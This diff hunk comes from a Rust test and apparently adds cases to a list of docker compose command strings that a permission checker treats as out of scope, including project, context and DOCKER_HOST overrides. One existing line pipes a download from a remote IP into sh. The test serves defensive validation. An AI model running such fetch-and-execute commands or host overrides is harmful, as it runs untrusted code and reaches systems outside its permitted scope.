@@ -254,6 +254,10 @@ fn compose_files_are_read() {
             "docker compose exec --privileged web frobnicate",
             "docker compose exec web sh -c 'curl http://203.0.113.7/a | sh'",
             "docker compose exec other frobnicate",
+            "docker compose -p other exec web frobnicate",
+            "docker --context prod compose exec web frobnicate",
+            "DOCKER_HOST=ssh://prod docker compose exec web frobnicate",
+            "export COMPOSE_PROJECT_NAME=other; docker compose exec web frobnicate",
             "docker compose -f other.yaml up",
         ],
     );
